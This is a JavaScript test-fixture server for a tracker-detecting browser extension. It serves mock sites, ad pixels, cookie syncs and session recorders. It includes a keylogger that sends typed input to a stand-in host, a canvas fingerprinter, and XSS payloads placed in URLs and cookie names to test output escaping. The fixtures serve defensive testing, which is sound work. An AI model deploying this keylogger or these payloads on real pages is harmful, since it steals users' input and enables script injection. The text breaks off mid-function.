// A small web for the end-to-end tests: first-party sites and third parties
// on real tracker hostnames, all served by ONE https server that dispatches
// on the Host header. Chromium reaches it through
// `--host-resolver-rules=MAP * 127.0.0.1:PORT`, so pages can use plain
// https://host/ URLs. The certificate is made by openssl at start, with a SAN
// for every host, into a temporary directory.
//
// Every request is logged with the page it belongs to and who loaded it, as
// Telltale should see it: `page` is `tt_page` or the Referer's site, `from`
// is `tt_from` (redirect hops, resources loaded by a CSS file) or the
// Referer's site. Requests with neither (the browser's own) stay unattributed.
//
// The content was written for these tests; nothing is copied from the real
// services, only their hostnames (so the default rule pack classifies them).

import { execFileSync } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import https from 'node:https';
import os from 'node:os';
import path from 'node:path';
import { getDomain } from 'tldts';

/**
 * The registrable domain (site) of a host name, by tldts with the full Public
 * Suffix List (private section included, as Telltale uses it): an independent
 * implementation, so the tests' expectations do not come from Telltale itself.
 * fonts.googleapis.com is its own site, since googleapis.com is a (private)
 * public suffix. An IP literal is its own site.
 */
export function siteOf(host) {
  const h = host.toLowerCase().replace(/\.$/, '').replace(/^\[|\]$/g, '');
  return getDomain(h, { allowPrivateDomains: true }) || h;
}

const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

// ---------------------------------------------------------------- third parties

// A session recorder, written for the tests: listens to mouse, keys, input and
// scroll, observes the whole document, reads input values, and posts batches.
const RECORDER_JS = `(function () {
  var site = 3105;
  var endpoint = 'https://insights.hotjar.com/api/v2/client/sites/' + site + '/visit-data?sv=7';
  var buffer = [];
  var timer = null;
  function send() {
    timer = null;
    if (!buffer.length) return;
    var body = JSON.stringify(buffer.splice(0, buffer.length));
    fetch(endpoint, { method: 'POST', body: body, mode: 'no-cors', credentials: 'omit', keepalive: true });
  }
  function push(e) {
    buffer.push(e);
    if (!timer) timer = setTimeout(send, 250);
  }
  document.addEventListener('mousemove', function (e) { push({ t: 'mm', x: e.clientX, y: e.clientY }); }, true);
  document.addEventListener('keydown', function (e) { push({ t: 'kd', k: e.key.length }); }, true);
  document.addEventListener('input', function (e) {
    var el = e.target;
    var v = el && (el.tagName === 'INPUT' || el.tagName === 'TEXTAREA') ? el.value : '';
    push({ t: 'in', len: v.length });
  }, true);
  window.addEventListener('scroll', function () { push({ t: 'sc', y: window.scrollY }); }, { passive: true });
  new MutationObserver(function (m) { push({ t: 'mu', n: m.length }); })
    .observe(document, { childList: true, subtree: true, attributes: true, characterData: true });
  var fields = document.querySelectorAll('input, textarea');
  for (var i = 0; i < fields.length; i++) push({ t: 'field', len: fields[i].value.length });
  navigator.sendBeacon('https://insights.hotjar.com/api/v2/client/sites/' + site + '/visit-data?sv=7&start=1', JSON.stringify({ t: 'start' }));
})();
`;

// Facebook's pixel loader, in miniature: it fires the /tr pixel.
const FBEVENTS_JS = `(function () {
  var img = new Image();
  img.src = 'https://www.facebook.com/tr?id=4242&ev=PageView&noscript=0';
  document.documentElement.appendChild(img);
})();
`;

// A tag manager that loads Google Analytics, as such containers do.
const GTM_JS = `(function () {
  var s = document.createElement('script');
  s.src = 'https://www.google-analytics.com/analytics.js';
  document.head.appendChild(s);
})();
`;

// gtag.js in miniature: like Google's, it reads window['ga-disable-<id>'] for
// the id in its own URL, and says what it found (it sends nothing either way).
const GTAG_JS = `(function () {
  var id = new URL(document.currentScript.src).searchParams.get('id');
  window.__gtag = { id: id, disabled: window['ga-disable-' + id] === true };
})();
`;

const ANALYTICS_JS = `(function () {
  var img = new Image();
  img.src = 'https://www.google-analytics.com/collect?v=1&t=pageview&tid=UA-1-1&dl=' + encodeURIComponent(location.href);
})();
`;

function fontsCss(page) {
  return `@font-face { font-family: 'Fixture Roboto'; font-style: normal; font-weight: 400;
  src: url(https://fonts.gstatic.com/s/roboto/v30/KFOmCnqEu92Fr1Mu4mxK.woff2?tt_from=${page}&tt_page=${page}) format('woff2'); }
body { font-family: 'Fixture Roboto', sans-serif; }
`;
}

function cookie(name, value) {
  return `${name}=${value}; Path=/; Max-Age=86400; SameSite=None; Secure`;
}

let uid = 0;

/** host → (req, url, page) → response description. */
const THIRD_PARTIES = {
  'static.hotjar.com': () => ({ type: 'text/javascript', body: RECORDER_JS }),
  'insights.hotjar.com': () => ({ status: 204, headers: { 'access-control-allow-origin': '*' } }),
  'googleads.g.doubleclick.net': () => ({ type: 'image/gif', body: GIF }),
  'www.google-analytics.com': (req, url) =>
    url.pathname === '/analytics.js' ? { type: 'text/javascript', body: ANALYTICS_JS } : { type: 'image/gif', body: GIF },
  'connect.facebook.net': (req, url) =>
    url.pathname.endsWith('/fbevents.js') ? { type: 'text/javascript', body: FBEVENTS_JS } : { type: 'text/javascript', body: 'window.FB = {};\n' },
  'www.facebook.com': (req, url, page) => {
    if (url.pathname === '/plugins/like.php') {
      // A third-party frame: what it loads is loaded by facebook.com, on the page's site.
      return {
        type: 'text/html',
        body: `<!doctype html><title>Like</title><button>Like</button>
<script src="https://connect.facebook.net/en_US/sdk.js?tt_page=${page}"></script>`,
      };
    }
    return { type: 'image/gif', body: GIF };
  },
  'cdnjs.cloudflare.com': () => ({ type: 'text/javascript', body: 'window.fixtureLib = { version: "3.7.1" };\n' }),
  'fonts.googleapis.com': (req, url, page) => ({ type: 'text/css', body: fontsCss(page) }),
  // Fonts are CORS requests: like Google's, the answer allows every origin.
  'fonts.gstatic.com': () => ({ type: 'font/woff2', body: Buffer.from('not really a font'), headers: { 'access-control-allow-origin': '*' } }),
  'ib.adnxs.com': (req, url, page) => {
    const headers = { 'set-cookie': [cookie('uuid2', `${Date.now()}${uid++}`)] };
    if (url.pathname === '/getuid') {
      // Cookie sync: AppNexus → Criteo → Criteo's pixel.
      headers.location = `https://dis.criteo.com/dis/usersync.aspx?r=7&p=3&tt_page=${page}&tt_from=adnxs.com`;
      return { status: 302, headers };
    }
    return { type: 'image/gif', body: GIF, headers };
  },
  'dis.criteo.com': (req, url, page) => ({
    status: 302,
    headers: { location: `https://static.criteo.net/images/pixel.gif?ch=1&tt_page=${page}&tt_from=criteo.com` },
  }),
  'static.criteo.net': () => ({ type: 'image/gif', body: GIF }),
  'pixel.rubiconproject.com': () => ({
    type: 'image/gif',
    body: GIF,
    headers: { 'set-cookie': [cookie('khaos', `k${uid++}`), cookie('audit', '1')] },
  }),
  'www.googletagmanager.com': (req, url) => ({ type: 'text/javascript', body: url.pathname === '/gtag/js' ? GTAG_JS : GTM_JS }),
  'cdn.cookielaw.org': () => ({ type: 'text/javascript', body: 'window.OneTrustStub = true;\n' }),
  'platform.twitter.com': () => ({ type: 'text/javascript', body: 'window.twttr = { widgets: {} };\n' }),
  'snap.licdn.com': () => ({ type: 'text/javascript', body: 'window._linkedin_data_partner_ids = [42];\n' }),
  'bat.bing.com': () => ({ type: 'text/javascript', body: 'window.UET = function () {};\n' }),
  // In no rule pack: only the cross-site-cookies heuristic can flag it.
  'px.unlisted-tracker.test': () => ({
    type: 'image/gif',
    body: GIF,
    headers: { 'set-cookie': [cookie('tid', `t${Date.now()}${uid++}`)] },
  }),
  // Also in no pack; on two pages that make no request after they load.
  'sync.quiet-tracker.test': () => ({
    type: 'image/gif',
    body: GIF,
    headers: { 'set-cookie': [cookie('qid', `q${Date.now()}${uid++}`)] },
  }),
  // A host that serves rule lists (the options page loads one from a URL).
  'lists.example': (req, url) => (url.pathname === '/learned.json'
    ? { type: 'application/json', body: JSON.stringify({ format: 'telltale-rules/1', name: 'from-a-url', version: '1', license: 'CC0-1.0',
      sources: { s: { name: 'e2e list' } }, entities: [{ name: 'Quiet Tracker', domains: ['quiet-tracker.test'], categories: ['advertising'], source: 's' }] }) }
    : url.pathname === '/page.html' ? { type: 'text/html', body: '<!doctype html><title>not a list</title>' }
      // A server that takes the request and never answers.
      : url.pathname === '/hang.json' ? { hang: true }
        : LIST_LIMITS[url.pathname] ? LIST_LIMITS[url.pathname]() : { status: 404 }),
  // Hostile third parties (forum.example): markup in paths, queries and cookie names.
  'x.test': () => ({ type: 'image/gif', body: GIF }),
  'cookies.hostile.test': () => ({
    type: 'image/gif',
    body: GIF,
    headers: {
      'set-cookie': [
        cookie('<img src=x onerror=window.__pwned=1>', '1'),
        cookie('<script>window.__pwned++</script>', '1'),
        cookie('"><svg onload=window.__pwned=1>', '1'),
        cookie("'onmouseover='window.__pwned=1'", '1'),
      ],
    },
  }),
};

// ---------------------------------------------------------------- first parties

/** The markup that loads each third party, by name (the page site is known by then). */
const EMBEDS = {
  recorder: () => `<script src="https://static.hotjar.com/c/hotjar-3105.js?sv=7"></script>`,
  remarketing: () => `<img alt="" width="1" height="1" src="https://googleads.g.doubleclick.net/pagead/viewthroughconversion/123/?value=0&amp;label=abc&amp;guid=ON&amp;script=0">`,
  analytics: () => `<script src="https://www.google-analytics.com/analytics.js"></script>`,
  fbpixel: () => `<script src="https://connect.facebook.net/en_US/fbevents.js"></script>`,
  fblike: (page) => `<iframe title="like" width="120" height="40" src="https://www.facebook.com/plugins/like.php?href=https%3A%2F%2F${page}%2F&amp;tt_page=${page}"></iframe>`,
  cdn: () => `<script src="https://cdnjs.cloudflare.com/ajax/libs/jquery/3.7.1/jquery.min.js"></script>`,
  fonts: (page) => `<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Roboto&amp;display=swap&amp;tt_page=${page}">`,
  appnexus: () => `<img alt="" width="1" height="1" src="https://ib.adnxs.com/px?id=991&amp;t=2">`,
  cookiesync: () => `<img alt="" width="1" height="1" src="https://ib.adnxs.com/getuid?https%3A%2F%2Fdis.criteo.com%2Fdis%2Fusersync.aspx">`,
  rubicon: () => `<img alt="" width="1" height="1" src="https://pixel.rubiconproject.com/tap.php?v=7751&amp;nid=2307">`,
  gtm: () => `<script src="https://www.googletagmanager.com/gtm.js?id=GTM-FIX1"></script>`,
  consent: () => `<script src="https://cdn.cookielaw.org/scripttemplates/otSDKStub.js"></script>`,
  twitter: () => `<script src="https://platform.twitter.com/widgets.js"></script>`,
  linkedin: () => `<script src="https://snap.licdn.com/li.lms-analytics/insight.min.js"></script>`,
  bing: () => `<script src="https://bat.bing.com/bat.js"></script>`,
  unlisted: () => `<img alt="" width="1" height="1" src="https://px.unlisted-tracker.test/c/a1.png?site=1">`,
  quiet: () => `<img alt="" width="1" height="1" src="https://sync.quiet-tracker.test/c/a1.png">`,
};

/**
 * The first-party sites and what each loads. `tests/e2e/extension.test.mjs`
 * derives its expectations from this table.
 */
export const SITES = {
  'news.example': ['recorder', 'remarketing', 'analytics', 'appnexus', 'cookiesync', 'unlisted', 'cdn'],
  'shop.example': ['fbpixel', 'remarketing', 'appnexus', 'rubicon', 'unlisted', 'linkedin', 'fonts', 'cdn'],
  'blog.example': ['gtm', 'twitter', 'consent', 'rubicon', 'recorder'],
  'recipes.example': ['recorder', 'fonts', 'bing', 'appnexus', 'cdn'],
  'travel.example': ['fblike', 'cookiesync', 'rubicon', 'consent', 'quiet'],
  'sports.example': ['analytics', 'remarketing', 'bing', 'linkedin', 'consent', 'cdn', 'quiet'],
  // Reloaded over and over while the service worker is stopped.
  'weather.example': ['analytics', 'bing', 'cdn'],
};

/** Third-party sites each embed causes a request to (directly, by script, redirect or frame). */
export const EMBED_SITES = {
  recorder: ['hotjar.com'],
  remarketing: ['doubleclick.net'],
  analytics: ['google-analytics.com'],
  fbpixel: ['facebook.net', 'facebook.com'],
  fblike: ['facebook.com', 'facebook.net'],
  cdn: ['cloudflare.com'],
  fonts: ['fonts.googleapis.com', 'gstatic.com'],
  appnexus: ['adnxs.com'],
  cookiesync: ['adnxs.com', 'criteo.com', 'criteo.net'],
  rubicon: ['rubiconproject.com'],
  gtm: ['googletagmanager.com', 'google-analytics.com'],
  consent: ['cookielaw.org'],
  twitter: ['twitter.com'],
  linkedin: ['licdn.com'],
  bing: ['bing.com'],
  unlisted: ['unlisted-tracker.test'],
  quiet: ['quiet-tracker.test'],
};

/** Embeds whose third party sets cookies. */
export const COOKIE_EMBEDS = new Set(['appnexus', 'cookiesync', 'rubicon', 'unlisted', 'quiet']);

function sitePage(site, query) {
  const embeds = SITES[site].map((e) => EMBEDS[e](site)).join('\n');
  const title = site.split('.')[0];
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>${title} – fixture</title>
<style>body { margin: 2em; min-height: 150vh; } input, textarea { display: block; margin: 1em 0; }</style>
</head><body>
<h1>${title[0].toUpperCase() + title.slice(1)}</h1>
<p>A fixture page of the Telltale end-to-end tests${query ? ` (${query.replace(/[^a-z0-9=&]/gi, '')})` : ''}.</p>
<form onsubmit="return false"><label>Search <input id="q" name="q" autocomplete="off"></label>
<label>Comment <textarea id="comment"></textarea></label></form>
<div id="feed"></div>
${embeds}
<script>document.getElementById('feed').textContent = 'loaded';</script>
</body></html>`;
}

// Markup in a path, a query and a quote-breaking path; cookie names with markup.
export const HOSTILE = {
  site: 'forum.example',
  markupPath: '/<img src=x onerror=window.__pwned=1>',
  markupQuery: '?q=<script>window.__pwned=1</script>',
  quotePath: "/'onmouseover='window.__pwned=1'/\"><b>bold</b>",
  cookieNames: ['<img src', '<script>window.__pwned++</script>', '"><svg onload', "'onmouseover"],
};

// A JavaScript string literal that is safe inside an inline <script> element.
const jsString = (v) => JSON.stringify(v).replace(/</g, '\\u003c');

function hostilePage() {
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>&lt;b&gt;forum&lt;/b&gt;</title></head><body>
<h1>Forum</h1>
<script>
  // Built in script, so the markup reaches the browser's URL parser as written.
  var a = new Image(); a.src = 'https://x.test' + ${jsString(HOSTILE.markupPath + HOSTILE.markupQuery)};
  var b = new Image(); b.src = 'https://x.test' + ${jsString(HOSTILE.quotePath)};
  var c = new Image(); c.src = 'https://cookies.hostile.test/set.gif';
</script>
</body></html>`;
}

// A hostile load (heavy.example): thousands of image requests to many
// third-party sites, a few 100 KB URLs, data: and blob: URLs, an about:blank
// frame and an IP-address host. `window.__done` holds how many of the images
// loaded and how many failed, once every one has done either.
export const HEAVY = {
  site: 'heavy.example',
  images: 2000,
  hosts: Array.from({ length: 40 }, (_, i) => `img.heavy-cdn-${i}.test`),
  longHost: 'beacon.long-url.test',
  longUrls: 3,
  urlBytes: 100_000,
  // Reached through --host-resolver-rules like every host; Telltale takes the address as its site.
  ipHost: '127.0.0.2',
};

function heavyPage() {
  const gif = GIF.toString('base64');
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>heavy – fixture</title></head><body>
<h1>Heavy</h1>
<iframe title="blank" src="about:blank"></iframe>
<script>
  var hosts = ${jsString(HEAVY.hosts)};
  var urls = [];
  for (var i = 0; i < ${HEAVY.images}; i++) urls.push('https://' + hosts[i % hosts.length] + '/i.gif?n=' + i);
  var pad = new Array(${HEAVY.urlBytes} + 1).join('x');
  for (var j = 0; j < ${HEAVY.longUrls}; j++) urls.push('https://${HEAVY.longHost}/b.gif?j=' + j + '&d=' + pad);
  urls.push('https://${HEAVY.ipHost}/ip.gif');
  urls.push('data:image/gif;base64,${gif}');
  urls.push(URL.createObjectURL(new Blob([Uint8Array.from(atob('${gif}'), function (c) { return c.charCodeAt(0); })], { type: 'image/gif' })));
  var done = { loaded: 0, failed: 0 };
  window.__done = null;
  Promise.all(urls.map(function (u) {
    return new Promise(function (resolve) {
      var img = new Image();
      img.onload = function () { done.loaded++; resolve(); };
      img.onerror = function () { done.failed++; resolve(); };
      img.src = u;
    });
  })).then(function () { window.__done = done; });
  fetch('data:text/plain,heavy').catch(function () {});
</script>
</body></html>`;
}

// drip.example/?n=N: N image requests to one third party, one after the
// other (each starts when the previous one ended), so that each becomes its
// own batch of events. `window.__done` is N when all have ended.
export const DRIP = { site: 'drip.example', host: 'px.drip-tracker.test' };

function dripPage(url) {
  const n = Math.max(0, Math.min(5000, Number(url.searchParams.get('n')) || 0));
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>drip – fixture</title></head><body>
<h1>Drip</h1>
<script>
  window.__done = 0;
  (function next(i) {
    if (i >= ${n}) return;
    var img = new Image();
    img.onload = img.onerror = function () { window.__done = i + 1; next(i + 1); };
    img.src = 'https://${DRIP.host}/c/a1.png?i=' + i;
  })(0);
</script>
</body></html>`;
}

// optout.example: what opting out must show to page scripts. Its first
// statement reads navigator.globalPrivacyControl (in the top document and in
// an about:blank frame), then it loads gtag.js with a measurement id.
export const OPTOUT = { site: 'optout.example', measurementId: 'G-TT0001' };

function optoutPage() {
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>opt-out – fixture</title>
<script>window.__gpcAtStart = navigator.globalPrivacyControl;</script>
</head><body>
<h1>Opt-out</h1>
<iframe title="blank" src="about:blank" id="blank"></iframe>
<script>window.__gpcInFrame = document.getElementById('blank').contentWindow.navigator.globalPrivacyControl;</script>
<script async src="https://www.googletagmanager.com/gtag/js?id=${OPTOUT.measurementId}"></script>
<img alt="" width="1" height="1" src="https://pixel.rubiconproject.com/tap.php?v=1&amp;nid=9">
</body></html>`;
}

// behave.example: scripts that track by what they do, from hosts no rule pack
// names, beside benign look-alikes, each on a site of its own (the core judges
// a vendor by its site). All written for the tests.
export const BEHAVE = {
  site: 'behave.example',
  recorder: 'replay-fixture.test', // listens to mouse, scroll and keys, observes the DOM, sends batches
  fingerprinter: 'canvas-fixture.test', // canvas text read back; 60 fonts measured; WebGL's renderer
  keylogger: 'keylog-fixture.test', // sends what you type (the password as SHA-256, the rest in base64) before you submit
  benign: {
    chart: 'charts.benign-chart.test', // bars and labels on a canvas, never read back
    logo: 'logo.benign-logo.test', // a 4-letter text logo, saved as an image when the user clicks
    pageviews: 'pv.benign-pageviews.test', // one beacon per page view
    autocomplete: 'ac.benign-autocomplete.test', // reads what you type, sends nothing
    form: 'form.benign-form.test', // posts only on submit
  },
};

// The classic canvas fingerprint (text in two colours over a rectangle), as
// script text: leaves `c` (the canvas) and `x` (its context) for what follows.
const CANVAS_FP = `  var c = document.createElement('canvas'); c.width = 240; c.height = 60;
  var x = c.getContext('2d');
  x.textBaseline = 'top'; x.font = '14px Arial';
  x.fillStyle = '#f60'; x.fillRect(125, 1, 62, 20);
  x.fillStyle = '#069'; x.fillText('Cwm fjordbank glyphs vext quiz', 2, 15);
  x.fillStyle = 'rgba(102, 204, 0, 0.7)'; x.fillText('Cwm fjordbank glyphs vext quiz', 4, 17);
`;

const BEHAVE_JS = {
  [`cdn.${BEHAVE.recorder}`]: `(function () {
  var queue = [];
  function flush() { if (queue.length) fetch('https://ingest.${BEHAVE.recorder}/b', { method: 'POST', body: JSON.stringify(queue.splice(0)), mode: 'no-cors' }); }
  document.addEventListener('mousemove', function (e) { queue.push([e.clientX, e.clientY]); }, true);
  window.addEventListener('scroll', function () { queue.push(['s', window.scrollY]); }, { passive: true });
  document.addEventListener('keydown', function () { queue.push(['k']); }, true);
  document.addEventListener('input', function () { queue.push(['i']); }, true);
  new MutationObserver(function (m) { queue.push(['m', m.length]); }).observe(document, { childList: true, subtree: true, attributes: true });
  setInterval(flush, 300);
})();
`,
  [`fp.${BEHAVE.fingerprinter}`]: `(function () {
${CANVAS_FP}  window.__fp = c.toDataURL().length;
  var fonts = 0;
  for (var i = 0; i < 60; i++) { x.font = '72px fixture-font-' + i + ', monospace'; fonts += x.measureText('mmmmmmmmmmlli').width > 0 ? 1 : 0; }
  try {
    var gl = document.createElement('canvas').getContext('webgl');
    var ext = gl && gl.getExtension('WEBGL_debug_renderer_info');
    if (ext) window.__gpu = gl.getParameter(ext.UNMASKED_RENDERER_WEBGL);
  } catch (e) {}
  new Image().src = 'https://collect.${BEHAVE.fingerprinter}/fp.gif?h=' + window.__fp + '&f=' + fonts;
})();
`,
  [`k.${BEHAVE.keylogger}`]: `(function () {
  var typed = {}; var timer = 0;
  function hex(buf) { return Array.from(new Uint8Array(buf), function (b) { return b.toString(16).padStart(2, '0'); }).join(''); }
  function flush() {
    var out = {}; var jobs = Object.keys(typed).map(function (id) {
      var v = typed[id].value;
      if (typed[id].type !== 'password') { out[id] = btoa(unescape(encodeURIComponent(v))); return null; }
      return crypto.subtle.digest('SHA-256', new TextEncoder().encode(v)).then(function (d) { out[id] = hex(d); });
    });
    Promise.all(jobs).then(function () { navigator.sendBeacon('https://in.${BEHAVE.keylogger}/k', JSON.stringify(out)); });
  }
  document.addEventListener('input', function (e) {
    var t = e.target; if (!t || !t.id) return;
    typed[t.id] = { type: t.type, value: t.value };
    clearTimeout(timer); timer = setTimeout(flush, 250);
  }, true);
})();
`,
  [BEHAVE.benign.chart]: `(function () {
  var c = document.createElement('canvas'); c.width = 300; c.height = 120; document.body.appendChild(c);
  var x = c.getContext('2d');
  [30, 70, 50, 90].forEach(function (v, i) {
    x.save(); x.fillStyle = ['#36c', '#c63', '#3c6', '#963'][i]; x.fillRect(20 + i * 60, 110 - v, 40, v);
    x.fillText('Quarter ' + (i + 1), 20 + i * 60, 118); x.restore();
  });
})();
`,
  [BEHAVE.benign.logo]: `(function () {
  var c = document.createElement('canvas'); c.width = 200; c.height = 60; c.id = 'logo'; document.body.appendChild(c);
  var x = c.getContext('2d'); x.font = '40px serif'; x.fillStyle = '#222'; x.fillText('ACME', 10, 45);
  var b = document.createElement('button'); b.id = 'save-logo'; b.textContent = 'Save the logo';
  b.onclick = function () { window.__logo = c.toDataURL('image/png').length; };
  document.body.appendChild(b);
})();
`,
  [BEHAVE.benign.pageviews]: `navigator.sendBeacon('https://${BEHAVE.benign.pageviews}/pv?u=' + encodeURIComponent(location.pathname));\n`,
  [BEHAVE.benign.autocomplete]: `(function () {
  var q = document.getElementById('q'); var out = document.getElementById('suggest');
  var words = ['alpha', 'beta', 'gamma', 'secret', 'sector'];
  q.addEventListener('input', function () { var v = q.value; out.textContent = words.filter(function (w) { return v && w.indexOf(v) === 0; }).join(', '); });
})();
`,
  [BEHAVE.benign.form]: `document.getElementById('f').addEventListener('submit', function (e) {
  e.preventDefault();
  fetch('https://${BEHAVE.benign.form}/post', { method: 'POST', body: document.getElementById('comment').value, mode: 'no-cors' });
});
`,
};

function behavePage() {
  const scripts = Object.keys(BEHAVE_JS).map((h) => `<script src="https://${h}/s.js"></script>`).join('\n');
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>behave – fixture</title>
<style>body { margin: 2em; min-height: 200vh; }</style></head><body>
<h1>Behave</h1>
<form id="f"><label>Search <input id="q" autocomplete="off"></label><div id="suggest"></div>
<label>Password <input id="pw" type="password" autocomplete="off"></label>
<label>Comment <textarea id="comment"></textarea></label> <button id="send">Send</button></form>
${scripts}
</body></html>`;
}

for (const [host, body] of Object.entries(BEHAVE_JS)) THIRD_PARTIES[host] = () => ({ type: 'text/javascript', body });
for (const h of [`ingest.${BEHAVE.recorder}`, `collect.${BEHAVE.fingerprinter}`, `in.${BEHAVE.keylogger}`]) {
  THIRD_PARTIES[h] = () => ({ status: 204, headers: { 'access-control-allow-origin': '*' } });
}
// rrweb.example: rrweb (the open-source session recorder, from npm) served
// from a host no rule pack names, with a vendor's glue written for the tests
// that uploads what it records, under a path no list names (EasyPrivacy
// blocks `/rrweb.min.js`). Only behaviour can tell what it is.
export const RRWEB = { site: 'rrweb.example', vendor: 'session-lib.test' };
const RRWEB_JS = fs.readFileSync(new URL('../../node_modules/rrweb/dist/rrweb.umd.min.cjs', import.meta.url));
THIRD_PARTIES[`cdn.${RRWEB.vendor}`] = (req, url) => (url.pathname === '/lib/r.js'
  ? { type: 'text/javascript', body: RRWEB_JS }
  : { type: 'text/javascript', body: `(function () {
  var events = [];
  rrweb.record({ emit: function (e) { events.push(e); } });
  setInterval(function () {
    if (events.length) fetch('https://collect.${RRWEB.vendor}/events', { method: 'POST', body: JSON.stringify(events.splice(0)), mode: 'no-cors' });
  }, 400);
})();
` });
THIRD_PARTIES[`collect.${RRWEB.vendor}`] = () => ({ status: 204, headers: { 'access-control-allow-origin': '*' } });

function rrwebPage() {
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>rrweb – fixture</title>
<style>body { margin: 2em; min-height: 200vh; }</style></head><body>
<h1>A page recorded by rrweb</h1>
<form onsubmit="return false"><label>Search <input id="q" autocomplete="off"></label></form>
<div id="feed"></div>
<script src="https://cdn.${RRWEB.vendor}/lib/r.js"></script>
<script src="https://cdn.${RRWEB.vendor}/glue.js"></script>
<script>setTimeout(function () { document.getElementById('feed').textContent = 'updated'; }, 200);</script>
</body></html>`;
}

// scripts.example: a script-heavy page for the probe's cost (bench/probe-cost.mjs):
// 10,000 listener registrations, 1,000 canvas calls and 1,000 fetches.
// `?fetches=0` leaves the fetches out (the in-page work alone).
// `window.__work` is the milliseconds they took, once all fetches ended.
export const SCRIPT_HEAVY = { site: 'scripts.example', sink: 'sink.scripts-sink.test' };
THIRD_PARTIES[SCRIPT_HEAVY.sink] = () => ({ status: 204, headers: { 'access-control-allow-origin': '*' } });

function scriptHeavyPage() {
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>scripts – fixture</title></head><body>
<h1>Scripts</h1><div id="x"></div>
<script>
  var t0 = performance.now();
  var el = document.getElementById('x');
  var noop = function () {};
  for (var i = 0; i < 10000; i++) el.addEventListener(['mousemove', 'click', 'keydown', 'scroll'][i % 4], noop);
  var c = document.createElement('canvas'); c.width = 120; c.height = 30;
  var x = c.getContext('2d');
  for (var j = 0; j < 1000; j++) { if (j % 2) x.fillText('label ' + j, 1, 20); else x.getImageData(0, 0, 1, 1); }
  var all = [];
  var fetches = /fetches=0/.test(location.search) ? 0 : 1000;
  for (var k = 0; k < fetches; k++) all.push(fetch('https://${SCRIPT_HEAVY.sink}/s?i=' + k, { mode: 'no-cors' }).catch(function () {}));
  Promise.all(all).then(function () { window.__work = performance.now() - t0; });
</script>
</body></html>`;
}

// sync.example: a syncing pair no rule pack names, written for the tests. A's
// pixel sets a year-long identifier cookie; A's sync URL redirects to B with
// that identifier in the query, as cookie matching does. B answers a pixel.
export const SYNC = {
  site: 'sync.example',
  a: 'px.sync-pair-a.test',
  b: 'match.sync-pair-b.test',
  // The identifier A gives this browser (one per server run).
  uid: `u${crypto.randomBytes(9).toString('hex')}`,
};
THIRD_PARTIES[SYNC.a] = (req, url) => (url.pathname === '/sync'
  ? { status: 302, headers: { location: `https://${SYNC.b}/m?partner=a&partner_uid=${SYNC.uid}` } }
  : { type: 'image/gif', body: GIF, headers: { 'set-cookie': `uid=${SYNC.uid}; Max-Age=31536000; Path=/; SameSite=None; Secure` } });
THIRD_PARTIES[SYNC.b] = () => ({ type: 'image/gif', body: GIF });
function syncPage() {
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>sync – fixture</title></head><body>
<h1>A page with a syncing pair</h1>
<img alt="" width="1" height="1" src="https://${SYNC.a}/p.gif" id="a">
<script>
  document.getElementById('a').addEventListener('load', function () {
    var i = new Image(); i.src = 'https://${SYNC.a}/sync'; document.body.append(i);
  });
</script>
</body></html>`;
}

// frames.example: a canvas and font fingerprinter, written for the tests, in
// three frames where a probe is easy to miss: a cross-origin frame, a
// sandboxed frame (opaque origin) and a sandboxed srcdoc frame. Each also
// plays a hostile page (wrong receivers, a throwing listener, a redefined
// function, a frozen prototype) and posts what it saw to the top page
// (`window.__frames`, by frame).
export const FRAMES = {
  site: 'frames.example',
  cross: 'widget.frame-fixture.test',
  sandboxed: 'box.sandbox-fixture.test',
  srcdoc: 'fp.srcdoc-fixture.test',
};
const FRAME_FP_JS = `(function () {
  var out = { where: location.host || 'srcdoc', origin: String(self.origin) };
${CANVAS_FP}  out.image = c.toDataURL().length;
  for (var i = 0; i < 60; i++) { x.font = '72px frame-font-' + i + ', monospace'; x.measureText('mmmmmmmmmmlli'); }
  var err = function (f) { try { f(); return 'no error'; } catch (e) { return e.constructor.name; } };
  out.badThis = [err(function () { HTMLCanvasElement.prototype.toDataURL.call({}); }), err(function () { EventTarget.prototype.addEventListener.call({}, 'click', function () {}); })];
  out.native = /\\[native code\\]/.test(Function.prototype.toString.call(HTMLCanvasElement.prototype.toDataURL)) && /\\[native code\\]/.test(String(window.fetch));
  var second = false; var t = new EventTarget();
  t.addEventListener('ping', function () { throw new Error('frame bug'); });
  t.addEventListener('ping', function () { second = true; });
  window.addEventListener('error', function (e) { e.preventDefault(); }, { once: true });
  t.dispatchEvent(new Event('ping'));
  out.secondListener = second;
  Object.defineProperty(Navigator.prototype, 'sendBeacon', { value: function mine() { return 'mine'; }, configurable: true, writable: true });
  out.redefined = navigator.sendBeacon() === 'mine';
  Object.freeze(CanvasRenderingContext2D.prototype);
  out.frozenStillDraws = x.getImageData(0, 0, 1, 1).data.length === 4;
  parent.postMessage({ telltaleFrame: out }, '*');
})();
`;
const framePage = (host) => `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>frame</title></head><body>
<p>A widget</p><script src="https://${host}/fp.js"></script></body></html>`;
for (const h of [FRAMES.cross, FRAMES.sandboxed, FRAMES.srcdoc]) {
  THIRD_PARTIES[h] = (req, url) => (url.pathname === '/frame.html'
    ? { type: 'text/html; charset=utf-8', body: framePage(h) }
    : { type: 'text/javascript', body: FRAME_FP_JS });
}
function framesPage() {
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>frames – fixture</title></head><body>
<h1>Fingerprinters in frames</h1>
<script>window.__frames = {}; window.addEventListener('message', function (e) { if (e.data && e.data.telltaleFrame) window.__frames[e.data.telltaleFrame.where] = e.data.telltaleFrame; });</script>
<iframe title="cross-origin" src="https://${FRAMES.cross}/frame.html"></iframe>
<iframe title="sandboxed" sandbox="allow-scripts" src="https://${FRAMES.sandboxed}/frame.html"></iframe>
